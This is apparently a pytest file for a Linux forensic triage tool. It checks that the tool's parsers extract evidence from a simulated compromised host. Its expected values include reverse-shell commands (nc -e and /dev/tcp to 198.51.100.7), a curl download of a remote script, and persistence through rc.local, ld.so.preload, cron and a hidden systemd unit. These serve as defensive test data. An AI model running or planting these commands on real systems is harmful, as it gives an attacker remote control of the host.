"""Each Linux parser on real formats (files laid out by tests/_linux_host.py), value by value, and on
hostile input (truncated, garbled, oversized), where it must report an Issue and keep what it read."""

from __future__ import annotations

import base64
import hashlib
import os
import shutil
import subprocess
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from _linux_host import (
    ATTACKER,
    AUTH_MTIME,
    ED25519_BLOB,
    JOURNAL_START,
    UTMP,
    build_linux_tree,
    utmp_record,
)

from triage.model import HostFact, Issue, UserAccount
from triage.parsers.base import input_from_file
from triage.parsers.linux.accounts import (
    AccountsParser,
    LinuxAccount,
    LinuxGroup,
    OsReleaseParser,
    ShadowEntry,
)
from triage.parsers.linux.clock import host_zone
from triage.parsers.linux.cron import CronParser
from triage.parsers.linux.live import LiveSnapshotParser
from triage.parsers.linux.login_hooks import LoginHookParser
from triage.parsers.linux.packages import PackageLogParser
from triage.parsers.linux.ssh_keys import AuthorizedKeysParser
from triage.parsers.linux.syslog import SyslogParser
from triage.parsers.linux.systemd_units import SystemdUnitParser
from triage.parsers.linux.utmp import LastlogParser, UtmpParser
from triage.units import iso

BERLIN = {"linux_zone": "Europe/Berlin", "linux_zone_source": "files/root/etc/timezone"}


@pytest.fixture(scope="module")
def tree(tmp_path_factory) -> Path:
    return build_linux_tree(tmp_path_factory.mktemp("linux") / "root")


def run(parser, root: Path, rel: str, options: dict | None = None, mtime: datetime | None = None):
    item = input_from_file(root / rel, rel)
    if mtime is not None:
        item.entry.times = {"modified": iso(mtime)}
    item.options = dict(options or {})
    out = list(parser.parse(item))
    return [r for r in out if not isinstance(r, Issue)], [r for r in out if isinstance(r, Issue)]


def test_auth_log_events_years_and_zone(tree):
    recs, issues = run(SyslogParser(), tree, "var/log/auth.log", BERLIN, AUTH_MTIME)
    assert not issues
    cats = [r.category for r in recs]
    assert cats == ["ssh_failed"] * 6 + ["ssh_invalid_user", "ssh_accepted", "sudo", "su", "user_added",
                                         "password_changed", "login_failed", "ssh_accepted"]
    first, accepted = recs[0], recs[7]
    # Dec 31 23:50:00 in Berlin (UTC+1 in winter), year counted back over the Dec -> Jan rollover
    assert first.timestamp == datetime(2025, 12, 31, 22, 50, 0, tzinfo=UTC)
    assert accepted.timestamp == datetime(2025, 12, 31, 23, 0, 5, tzinfo=UTC)
    assert first.year_inferred and "Europe/Berlin" in first.zone and "2025" in first.zone
    assert "2026" in accepted.zone and accepted.time_logged == "Jan  1 00:00:05"
    assert (accepted.user, accepted.source_ip, accepted.port, accepted.method) == ("root", ATTACKER, 51001, "password")
    assert recs[6].user == "oracle"
    sudo = recs[8]
    assert (sudo.user, sudo.target_user, sudo.command) == ("alice", "root", "/usr/bin/curl -s http://198.51.100.7/x.sh")
    assert (recs[9].user, recs[9].target_user) == ("alice", "root")
    assert recs[10].user == "toor" and recs[10].command.startswith("uid=0 ")
    assert recs[11].user == "toor" and recs[12].user == "bob"
    assert recs[0].source.locator == "line 1" and recs[-1].source.locator == "line 15"


def test_clock_follows_daylight_saving():
    from zoneinfo import ZoneInfo

    from triage.parsers.linux.clock import YearClock

    clock = YearClock(None, ZoneInfo("Europe/Berlin"), 2026)
    assert clock.to_utc(2026, 7, 1, "12:00:00") == datetime(2026, 7, 1, 10, 0, tzinfo=UTC)   # CEST, UTC+2
    assert clock.to_utc(2026, 1, 1, "12:00:00") == datetime(2026, 1, 1, 11, 0, tzinfo=UTC)   # CET, UTC+1
    assert clock.to_utc(2026, 2, 30, "12:00:00") is None


def test_auth_log_without_zone_or_mtime_says_so(tree):
    recs, issues = run(SyslogParser(), tree, "var/log/auth.log")
    assert recs[0].zone.startswith("UTC (assumed") and recs[0].timestamp.tzinfo is UTC
    assert any("no modification time" in i.message for i in issues)
    assert host_zone({})[1].startswith("UTC (assumed")


def test_rotated_gzip_log_and_rfc3339_syslog(tree):
    recs, _ = run(SyslogParser(), tree, "var/log/auth.log.2.gz", {}, datetime(2025, 6, 8, tzinfo=UTC))
    assert [(r.category, r.user, r.timestamp) for r in recs] == [
        ("ssh_accepted", "bob", datetime(2025, 6, 1, 10, 0, tzinfo=UTC))]
    recs, _ = run(SyslogParser(), tree, "var/log/syslog", BERLIN, datetime(2026, 1, 2, 9, tzinfo=UTC))
    assert len(recs) == 1 and recs[0].category == "cron_run" and not recs[0].year_inferred
    assert recs[0].timestamp == datetime(2026, 1, 2, 7, 0, 1, 123456, tzinfo=UTC)
    assert (recs[0].user, recs[0].command) == ("alice", "/home/alice/.cache/upd >/dev/null 2>&1")


def test_hostile_log_lines_are_cut_and_reported(tmp_path):
    p = tmp_path / "auth.log"
    p.write_bytes(b"Feb 30 10:00:00 h sshd[1]: Accepted password for x from 192.0.2.1 port 1 ssh2\n"
                  + b"\xff\xfe" * 10 + b"A" * 100_000 + b"\nJan  1 00:00:00 h sshd[2]: Accepted password for y from "
                  + b"192.0.2.2 port 2 ssh2\n"
                  + b"Jan  1 00:00:01 h sshd[" + b"9" * 5000 + b"]: Accepted password for z from 192.0.2.3 port "
                  + b"9" * 5000 + b" ssh2\n")
    recs, issues = run(SyslogParser(), tmp_path, "auth.log", {}, datetime(2026, 1, 1, 1, tzinfo=UTC))
    rel = "var/log/auth.log"
    (tmp_path / "var/log").mkdir(parents=True)
    shutil.copy(p, tmp_path / rel)
    recs, issues = run(SyslogParser(), tmp_path, rel, {}, datetime(2026, 1, 1, 1, tzinfo=UTC))
    assert [r.user for r in recs] == ["y"]
    msgs = " ".join(i.message for i in issues)
    assert "impossible date" in msgs and "over the length cap" in msgs
    # a gzip bomb stops at the inflate cap
    (tmp_path / "var/log/auth.log.1.gz").write_bytes(__import__("gzip").compress(b"x" * (1 << 20)))
    _, issues = run(SyslogParser(), tmp_path, "var/log/auth.log.1.gz", {"linux_max_inflated": 4096})
    assert any("inflated size cap" in i.message for i in issues)


def test_wtmp_btmp_records(tree):
    recs, issues = run(UtmpParser(), tree, "var/log/wtmp")
    assert not issues
    assert [(r.type, r.user, r.line) for r in recs] == [("boot_time", "reboot", "~"), ("user_process", "root", "pts/0"),
                                                        ("dead_process", "", "pts/0")]
    login = recs[1]
    assert login.time == datetime(2026, 1, 1, 0, 0, 5, 250000, tzinfo=UTC)
    assert (login.host, login.address, login.pid, login.log) == (ATTACKER, ATTACKER, 7011, "wtmp")
    assert login.source.locator == "record 1 (offset 384)"
    recs, _ = run(UtmpParser(), tree, "var/log/btmp")
    assert len(recs) == 3 and {r.log for r in recs} == {"btmp"} and recs[2].time.second == 2


def test_truncated_and_garbled_utmp(tmp_path):
    good = utmp_record(7, 1, "pts/1", "eve", "h", datetime(2026, 1, 1, tzinfo=UTC), "2001:db8::1")
    (tmp_path / "var/log").mkdir(parents=True)
    (tmp_path / "var/log/wtmp").write_bytes(good + b"\x63\x00" + b"\xaa" * (UTMP.size - 2) + good[:100])
    recs, issues = run(UtmpParser(), tmp_path, "var/log/wtmp")
    assert [r.user for r in recs] == ["eve"] and recs[0].address == "2001:db8::1"
    assert any("unknown ut_type 99" in i.message for i in issues)
    assert any("trailing bytes" in i.message for i in issues)


def test_lastlog(tree):
    recs, issues = run(LastlogParser(), tree, "var/log/lastlog")
    assert not issues
    assert [(r.uid, r.line, r.host, r.last_login) for r in recs] == [
        (1000, "pts/1", "192.0.2.10", datetime(2026, 1, 2, 9, 0, tzinfo=UTC))]


def test_accounts_shadow_group_os(tree):
    recs, _ = run(AccountsParser(), tree, "etc/passwd")
    accounts = {r.name: r for r in recs if isinstance(r, LinuxAccount)}
    assert accounts["toor"].uid == 0 and accounts["toor"].can_login
    assert accounts["root"].uid == 0 and accounts["root"].home == "/root"
    real = [line.split(":")[0] for line in Path("/etc/passwd").read_text().splitlines() if line.strip()]
    assert set(real) <= set(accounts)
    assert {r.name for r in recs if isinstance(r, UserAccount)} == set(accounts)
    recs, _ = run(AccountsParser(), tree, "etc/shadow")
    sh = {r.name: r for r in recs if isinstance(r, ShadowEntry)}
    assert (sh["root"].password, sh["root"].scheme) == ("set", "yescrypt")
    assert sh["toor"].password == "empty" and sh["daemon"].password == "none"
    assert sh["alice"].last_change == datetime(2026, 1, 1, tzinfo=UTC)  # day 20454 since 1970-01-01
    recs, _ = run(AccountsParser(), tree, "etc/group")
    assert next(r for r in recs if isinstance(r, LinuxGroup) and r.name == "sudoers2").members == ("alice", "toor")
    recs, _ = run(OsReleaseParser(), tree, "etc/os-release")
    facts = {r.key: r.value for r in recs if isinstance(r, HostFact)}
    assert facts == {"os_product": "Debian GNU/Linux 12 (bookworm)", "os_version": "12", "os_build": "12 (bookworm)"}
    recs, _ = run(OsReleaseParser(), tree, "etc/hostname")
    assert [(r.key, r.value) for r in recs] == [("hostname", "web1")]


def test_shadow_records_hold_no_hash(tree):
    recs, _ = run(AccountsParser(), tree, "etc/shadow")
    for r in recs:
        assert "$6$" not in repr(r) and "$y$" not in repr(r)


def test_cron(tree):
    recs, issues = run(CronParser(), tree, "etc/crontab")
    assert not issues
    assert [(r.schedule, r.run_as, r.command) for r in recs] == [
        ("17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"), ("*/5 * * * *", "root", "/tmp/.x/upd.sh")]
    recs, _ = run(CronParser(), tree, "var/spool/cron/crontabs/alice")
    assert [(r.kind, r.schedule, r.run_as, r.line) for r in recs] == [("user", "@reboot", "alice", 2),
                                                                       ("user", "0 8 * * *", "alice", 3)]
    recs, _ = run(CronParser(), tree, "etc/cron.daily/logrotate")
    assert [(r.kind, r.schedule, r.command) for r in recs] == [("run-parts", "daily", "/etc/cron.daily/logrotate")]
    recs, _ = run(CronParser(), tree, "etc/anacrontab")
    assert recs[0].kind == "anacron" and recs[0].command == "run-parts --report /etc/cron.daily"


def test_systemd_units(tree):
    recs, _ = run(SystemdUnitParser(), tree, "etc/systemd/system/dbus-helper.service")
    (u,) = recs
    assert (u.scope, u.exec, u.run_as, u.wanted_by) == ("admin", ("ExecStart=/dev/shm/.helper --daemon",), "root",
                                                        ("multi-user.target",))
    recs, _ = run(SystemdUnitParser(), tree, "home/alice/.config/systemd/user/sync.timer")
    assert (recs[0].scope, recs[0].triggers, recs[0].activates) == ("user", ("OnCalendar=*-*-* *:00:00",), "sync.service")
    recs, _ = run(SystemdUnitParser(), tree, "home/alice/.config/systemd/user/sync.service")
    assert recs[0].exec == ("ExecStart=/home/alice/.local/bin/sync --quiet",) and recs[0].run_as is None


def test_systemd_vendor_units_of_this_machine(tmp_path):
    units = sorted(Path("/usr/lib/systemd/system").glob("*.service"))[:30]
    if not units:
        pytest.skip("no systemd units on this machine")
    dest = tmp_path / "usr/lib/systemd/system"
    dest.mkdir(parents=True)
    for u in units:
        if u.is_file():
            shutil.copy(u, dest / u.name)
    for u in dest.iterdir():
        recs, issues = run(SystemdUnitParser(), tmp_path, f"usr/lib/systemd/system/{u.name}")
        assert len(recs) == 1 and recs[0].scope == "vendor" and not issues
        want = [line.split("=", 1)[1].strip() for line in u.read_text(errors="replace").splitlines()
                if line.startswith("ExecStart=") and not line.endswith("\\")]
        got = [x.split("=", 1)[1] for x in recs[0].exec if x.startswith("ExecStart=")]
        assert [w for w in want if w] == got or not want


def test_login_hooks(tree):
    recs, _ = run(LoginHookParser(), tree, "etc/rc.local")
    assert [(r.hook, r.line, r.command) for r in recs] == [("boot", 2, "nohup nc -e /bin/sh 198.51.100.7 9001 &")]
    recs, _ = run(LoginHookParser(), tree, "etc/ld.so.preload")
    assert recs[0].hook == "preload" and recs[0].command.endswith("libprocesshider.so")
    recs, _ = run(LoginHookParser(), tree, "home/alice/.bashrc")
    assert [r.line for r in recs] == [2] and recs[0].user == "alice"
    assert run(LoginHookParser(), tree, "etc/profile")[0] == []


def test_authorized_keys(tree):
    recs, issues = run(AuthorizedKeysParser(), tree, "home/alice/.ssh/authorized_keys")
    want_fp = "SHA256:" + base64.b64encode(hashlib.sha256(ED25519_BLOB).digest()).decode().rstrip("=")
    assert [(r.user, r.key_type, r.fingerprint, r.comment) for r in recs] == [
        ("alice", "ssh-ed25519", want_fp, "alice@laptop"), ("alice", "ssh-ed25519", want_fp, "backup")]
    assert recs[1].command == '/bin/bash -c "sh -i >& /dev/tcp/198.51.100.7/53 0>&1"'
    assert recs[1].options[0] == "no-pty" and recs[1].options[2] == 'from="10.0.0.0/8"'
    assert [i.source.locator for i in issues] == ["line 3"]
    if shutil.which("ssh-keygen"):   # the fingerprint agrees with OpenSSH's own
        out = subprocess.run(["ssh-keygen", "-lf", str(tree / "home/alice/.ssh/authorized_keys")], capture_output=True,
                             text=True, timeout=30).stdout
        assert want_fp in out


def test_package_logs(tree):
    recs, _ = run(PackageLogParser(), tree, "var/log/dpkg.log", BERLIN)
    assert recs[-1].package == "socat:amd64" and recs[-1].version == "1.7.4.4-2" and recs[-1].action == "install"
    assert recs[-1].timestamp == datetime(2026, 1, 1, 0, 5, tzinfo=UTC) and "Europe/Berlin" in recs[-1].zone
    real = Path("/var/log/dpkg.log")
    if real.is_file():
        n = sum(1 for line in real.read_text(errors="replace").splitlines()
                if line[20:].split(" ", 1)[0] in ("install", "upgrade", "remove", "purge"))
        assert len(recs) == n + 1
    recs, _ = run(PackageLogParser(), tree, "var/log/apt/history.log", BERLIN)
    last = recs[-1]
    assert (last.manager, last.action, last.command, last.requested_by) == (
        "apt", "install", "apt-get install -y socat", "alice (1000)")
    assert last.package == "socat:amd64 (1.7.4.4-2)" and last.end == datetime(2026, 1, 1, 0, 5, 1, tzinfo=UTC)


def test_live_snapshot(tmp_path):
    (tmp_path / "volatile").mkdir()
    (tmp_path / "volatile/processes.json").write_text(
        '{"captured": "2026-01-05T10:00:00Z", "data": [{"pid": 42, "ppid": 1, "name": "x", "exe": "/tmp/x",'
        ' "exe_deleted": true, "cmdline": ["/tmp/x", "-d"], "user": "www-data", "started": "2026-01-05T09:00:00Z",'
        ' "exe_sha256": null}, "junk", {"pid": "NaN", "cmdline": 5}]}')
    recs, issues = run(LiveSnapshotParser(), tmp_path, "volatile/processes.json")
    assert (recs[0].pid, recs[0].exe_deleted, recs[0].cmdline, recs[0].started) == (
        42, True, "/tmp/x -d", datetime(2026, 1, 5, 9, tzinfo=UTC))
    assert recs[1].pid is None and recs[1].cmdline == ""
    assert recs[0].execution() == ("x", "/tmp/x", None, (datetime(2026, 1, 5, 9, tzinfo=UTC),))
    win = replace(recs[0], exe="C:\\Windows\\System32\\svchost.exe")
    assert win.execution()[0] == "svchost.exe"
    assert any("not objects" in i.message for i in issues)
    (tmp_path / "volatile/network.json").write_text('{"captured": 1, "data": {"oops": 1}}')
    _, issues = run(LiveSnapshotParser(), tmp_path, "volatile/network.json")
    assert any("not a list" in i.message for i in issues)
    (tmp_path / "volatile/users.json").write_text("[" * 100_000)
    _, issues = run(LiveSnapshotParser(), tmp_path, "volatile/users.json")
    assert any("not valid JSON" in i.message for i in issues)


def test_journal_written_by_systemd(tree):
    pytest.importorskip("systemd.journal")
    files = list((tree / "var/log/journal").rglob("*.journal")) if (tree / "var/log/journal").is_dir() else []
    if not files:
        pytest.skip("systemd-journal-remote is not installed: no journal file to read")
    from triage.parsers.linux.journal import JournalParser

    rel = str(files[0].relative_to(tree))
    recs, issues = run(JournalParser(), tree, rel)
    assert not issues
    assert [r.category for r in recs] == ["ssh_failed"] * 5 + ["ssh_accepted"]
    assert recs[0].timestamp == JOURNAL_START and recs[5].user == "admin2" and recs[0].user == "admin"
    assert recs[0].hostname == "web1" and recs[0].pid == 800 and "cursor" in recs[0].source.locator
    # garbled copy: libsystemd refuses it, the parser reports it
    bad = tree.parent / "bad" / rel
    bad.parent.mkdir(parents=True)
    data = bytearray(files[0].read_bytes()[:4096])
    data[8:64] = os.urandom(56)
    bad.write_bytes(bytes(data))
    recs, issues = run(JournalParser(), tree.parent / "bad", rel)
    assert recs == [] and issues and "journal" in issues[0].message


def test_shell_commands_with_times(tree, tmp_path):
    from triage.parsers.linux.shell_commands import ShellCommandParser

    recs, _ = run(ShellCommandParser(), tree, "home/alice/.bash_history")
    assert [(r.line, r.entered, r.command, r.user) for r in recs] == [
        (1, None, "ls", "alice"),
        (3, datetime(2026, 1, 1, tzinfo=UTC), "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "alice")]
    (tmp_path / "home/bob").mkdir(parents=True)
    (tmp_path / "home/bob/.zsh_history").write_bytes(b": 1767225600:0;id\n: 99999999999999999999:0;x\n\xff\xfe\n")
    recs, _ = run(ShellCommandParser(), tmp_path, "home/bob/.zsh_history")
    assert [(r.command, r.entered) for r in recs[:1]] == [("id", datetime(2026, 1, 1, tzinfo=UTC))]
    assert len(recs) == 3 and recs[1].entered is None  # an absurd stamp is no time, the line is kept


def test_schema_documents_every_linux_field():
    """summary.schema.json has an entry schema for each Linux artifact naming every field of its record."""
    import dataclasses
    import json

    import triage.parsers.linux.all  # noqa: F401
    from triage.model import ArtifactRecord

    schema = json.loads((Path(__file__).parents[2] / "triage/data/summary.schema.json").read_text("utf-8"))
    arts = schema["properties"]["artifacts"]["properties"]
    classes = [c for c in _subclasses(ArtifactRecord) if c.__module__.startswith("triage.parsers.linux")]
    assert len(classes) >= 14
    for cls in classes:
        props = arts[cls.artifact]["allOf"][1]["properties"]["entries"]["items"]["properties"]
        names = {f.name for f in dataclasses.fields(cls)} - {"source"}
        assert names <= set(props), (cls.artifact, names - set(props))
        assert all(props[n]["description"] for n in names)


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def test_host_zone_from_localtime_when_no_timezone_file(tmp_path):
    """/etc/localtime (a TZif file) dates the logs when /etc/timezone is absent; a hostile zone name is refused."""
    import contextlib

    from triage.bundle.manifest import COLLECTED, ManifestEntry
    from triage.parsers.linux.clock import host_options

    tzif = Path("/usr/share/zoneinfo/America/New_York")
    if not tzif.is_file():
        pytest.skip("no tzdata on this machine")
    files = {"files/root/etc/localtime": tzif.read_bytes(), "files/root/etc/timezone": b"../../etc/passwd\n"}

    class Reader:
        def open(self, name):
            return contextlib.closing(__import__("io").BytesIO(files[name]))

    entries = [ManifestEntry(path="/" + n[11:], volume="root", bundle_path=n, artifact="x", priority=1,
                             outcome=COLLECTED) for n in files]
    opts = host_options(Reader(), entries)
    assert opts["linux_zone"] == "localtime" and opts["linux_zone_source"] == "files/root/etc/localtime"
    zone, label = host_zone(opts)
    assert label == "host localtime (files/root/etc/localtime)"
    assert datetime(2026, 1, 1, 12, tzinfo=zone).utcoffset().total_seconds() == -5 * 3600
    files["files/root/etc/timezone"] = b"Asia/Tokyo\n"
    assert host_options(Reader(), entries)["linux_zone"] == "Asia/Tokyo"
